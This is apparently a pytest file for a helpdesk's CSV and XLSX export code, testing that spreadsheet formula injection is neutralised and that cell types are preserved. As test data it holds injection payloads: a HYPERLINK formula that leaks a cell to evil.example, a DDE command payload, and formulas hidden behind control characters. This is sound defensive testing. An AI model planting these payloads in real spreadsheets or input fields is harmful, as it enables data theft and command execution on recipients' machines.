"""CSV and XLSX exports: formula injection neutralised the same way in both, types kept, large tables."""

import csv
import io
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from cphelpdesk.core.exports import (
    XLSX_CELL_LIMIT,
    XLSX_TYPE,
    Formatted,
    Sheet,
    csv_lines,
    csv_response,
    csv_text,
    safe_cell,
    xlsx_bytes,
    xlsx_response,
)

# What an attacker types into a subject or an organisation name, hoping an officer opens the export.
DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
             "\r=1+1", "=cmd|' /C calc'!A0"]


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def read_xlsx(data: bytes):
    return load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_is_inert_in_csv_and_xlsx_and_both_hold_the_same_text(value):
    csv_cell = read_csv(csv_text(["value"], [[value]]))[1][0]
    cell = read_xlsx(xlsx_bytes([Sheet("Test", ["value"], [[value]])])).active["A2"]
    assert csv_cell == "'" + value
    # Python's own XML parser reads a carriage return back as a line feed; lxml (when installed) keeps it.
    assert cell.value in (csv_cell, csv_cell.replace("\r", "\n"))
    assert cell.data_type == "s"  # text, never "f" (formula)


def test_header_cells_are_neutralised_too():
    assert read_csv(csv_text(["=1+1"], []))[0] == ["'=1+1"]
    assert read_xlsx(xlsx_bytes([Sheet("Test", ["=1+1"], [])])).active["A1"].value == "'=1+1"


def test_harmless_text_is_unchanged():
    for value in ("plain", "CPH-2026-0042", "a=b", "Mali – Mopti", "مرحبا", "1+1"):
        assert safe_cell(value) == value


def test_numbers_booleans_and_dates_keep_their_types_in_xlsx():
    aware = datetime(2026, 3, 1, 10, 30, tzinfo=timezone(timedelta(hours=2)))
    row = [42, -3, 2.5, Decimal("9.3"), True, date(2026, 3, 2), aware, None, gettext_lazy("Closed")]
    sheet = read_xlsx(xlsx_bytes([Sheet("Types", [str(n) for n in range(len(row))], [row])])).active
    cells = sheet[2]
    assert [cell.value for cell in cells[:5]] == [42, -3, 2.5, 9.3, True]
    assert [cell.data_type for cell in cells[:5]] == ["n", "n", "n", "n", "b"]
    assert cells[5].value == datetime(2026, 3, 2) and cells[5].is_date and cells[5].number_format == "yyyy-mm-dd"
    assert cells[6].value == datetime(2026, 3, 1, 8, 30) and cells[6].is_date  # the same instant, in UTC
    assert cells[7].value is None and cells[8].value == "Closed"


def test_a_formatted_figure_is_its_words_in_csv_and_its_number_in_xlsx():
    rate, median = Formatted("94.5%", 0.945, "0.0%"), Formatted("12.5 h", 12.5, '0.0" h"')
    assert read_csv(csv_text(["rate", "median"], [[rate, median]]))[1] == ["94.5%", "12.5 h"]
    row = read_xlsx(xlsx_bytes([Sheet("T", ["rate", "median"], [[rate, median]])])).active[2]
    assert [(cell.value, cell.data_type, cell.number_format) for cell in row] == [
        (0.945, "n", "0.0%"), (12.5, "n", '0.0" h"')]


def test_a_formatted_figure_survives_pickling_and_copying():
    import copy
    import pickle

    rate = Formatted("94.5%", 0.945, "0.0%")
    for clone in (pickle.loads(pickle.dumps(rate)), copy.deepcopy(rate)):  # noqa: S301 (our own bytes)
        assert (clone, clone.number, clone.number_format) == ("94.5%", 0.945, "0.0%")


def test_csv_writes_the_same_values_as_text():
    aware = datetime(2026, 3, 1, 10, 30, tzinfo=UTC)
    rows = read_csv(csv_text(["a"], [[42, -3, 2.5, True, False, date(2026, 3, 2), aware, None]]))
    assert rows[1] == ["42", "-3", "2.5", "TRUE", "FALSE", "2026-03-02", "2026-03-01 10:30:00", ""]


def test_the_header_row_is_bold_and_frozen_and_there_may_be_several_sheets():
    book = read_xlsx(xlsx_bytes([Sheet("First: a/b", ["Country", "Requests"], [["Mali", 7]]),
                                 Sheet("First: a/b", ["Topic"], [["IM"]]),
                                 Sheet("A title far longer than the thirty-one characters Excel allows", ["x"], [])]))
    assert book.sheetnames == ["First a b", "First a b (2)", "A title far longer than the thi"]
    first = book["First a b"]
    assert first.freeze_panes == "A2"
    assert first["A1"].font.b and first["B1"].font.b and not first["A2"].font.b
    assert [list(row) for row in first.iter_rows(values_only=True)] == [["Country", "Requests"], ["Mali", 7]]


def test_characters_xlsx_cannot_hold_are_dropped_and_long_text_is_cut_at_excels_limit():
    long = "x" * (XLSX_CELL_LIMIT + 10)
    sheet = read_xlsx(xlsx_bytes([Sheet("T", ["a", "b"], [["bell\x07 and nul\x00", long]])])).active
    assert sheet["A2"].value == "bell and nul"
    assert len(sheet["B2"].value) == XLSX_CELL_LIMIT and sheet["B2"].value.endswith("[…]")
    # CSV has no such limit: the text is whole.
    assert read_csv(csv_text(["b"], [[long]]))[1][0] == long


def test_an_empty_workbook_still_opens():
    assert read_xlsx(xlsx_bytes([])).sheetnames == ["Sheet"]


def test_csv_lines_stream_one_row_at_a_time():
    produced = []

    def rows():
        for number in range(100_000):
            produced.append(number)
            yield [number, f"=row {number}"]

    lines = csv_lines(["n", "text"], rows())
    assert next(lines) == "\ufeffn,text\r\n"
    assert next(lines) == "0,'=row 0\r\n" and len(produced) == 1  # nothing read ahead
    assert sum(1 for _ in lines) == 99_999


def test_responses_are_downloads_not_cached():
    streamed = csv_response("x.csv", ["a"], iter([["=1"]]), stream=True)
    assert streamed.streaming and b"".join(streamed.streaming_content).decode() == "\ufeffa\r\n'=1\r\n"
    whole = xlsx_response("x.xlsx", [Sheet("S", ["a"], [[1]])])
    for response, name in ((streamed, "x.csv"), (whole, "x.xlsx")):
        assert response["Content-Disposition"] == f'attachment; filename="{name}"'
        assert response["Cache-Control"] == "private, no-store"
    assert whole["Content-Type"] == XLSX_TYPE and read_xlsx(whole.content).active["A2"].value == 1


def test_a_few_thousand_rows_round_trip_in_both_formats():
    rows = [[n, f"Query {n}", datetime(2026, 1, 1, tzinfo=UTC) + timedelta(hours=n)] for n in range(3000)]
    book = read_xlsx(xlsx_bytes([Sheet("Big", ["n", "subject", "received"], rows)]))
    values = list(book.active.iter_rows(min_row=2, values_only=True))
    assert len(values) == 3000 and values[-1] == (2999, "Query 2999", datetime(2026, 5, 5, 23, 0))
    assert len(read_csv(csv_text(["n", "subject", "received"], rows))) == 3001


def test_a_streamed_csv_is_worded_in_the_language_of_the_request():
    from django.utils import translation

    with translation.override("fr"):
        response = csv_response("x.csv", [gettext_lazy("Closed")], iter([[gettext_lazy("Closed")]]), stream=True)
    # The view has returned (another language may be active now); the lines are written only now.
    assert b"".join(response.streaming_content).decode() == "\ufeffClôturée\r\nClôturée\r\n"


@pytest.mark.parametrize("value", ["\x01=HYPERLINK(\"http://evil.example\")", "\x00\x1f+1", "\x0b@SUM(A1)"])
def test_control_characters_cannot_hide_a_formula(value):
    csv_cell = read_csv(csv_text(["value"], [[value]]))[1][0]
    cell = read_xlsx(xlsx_bytes([Sheet("Test", ["value"], [[value]])])).active["A2"]
    assert csv_cell.startswith("'") and cell.value.startswith("'") and cell.data_type == "s"


@pytest.mark.parametrize("value", ["Mopti;=HYPERLINK(\"https://evil.example\",\"x\")", "a; @SUM(A1:A9)",
                                   "note\t=1+1", "Kenya, -2+3", "x;+1"])
def test_a_formula_after_a_separator_is_inert_when_the_file_is_opened_with_semicolons(value):
    # French and Spanish spreadsheets open CSV with `;` as the separator: every cell they would make of the
    # line, and of the value inside its quotes, must be inert.
    line = csv_text(["value"], [[value]]).splitlines()[1]
    assert line.startswith('"') and line.endswith('"')  # one field, whatever the separator
    for separator in (",", ";", "\t"):
        for cell in (line.split(separator) + read_csv(csv_text(["v"], [[value]]))[1][0].split(separator)):
            assert not cell.strip(' "').startswith(("=", "+", "-", "@")), (separator, cell)
    cell = read_xlsx(xlsx_bytes([Sheet("Test", ["value"], [[value]])])).active["A2"]
    assert cell.value == read_csv(csv_text(["v"], [[value]]))[1][0] and cell.data_type == "s"


def test_a_separator_without_a_formula_is_only_quoted():
    assert csv_text(["v"], [["Mali; Niger"], ["tab\there"], ["plain"]]).splitlines()[1:] == [
        '"Mali; Niger"', '"tab\there"', "plain"]
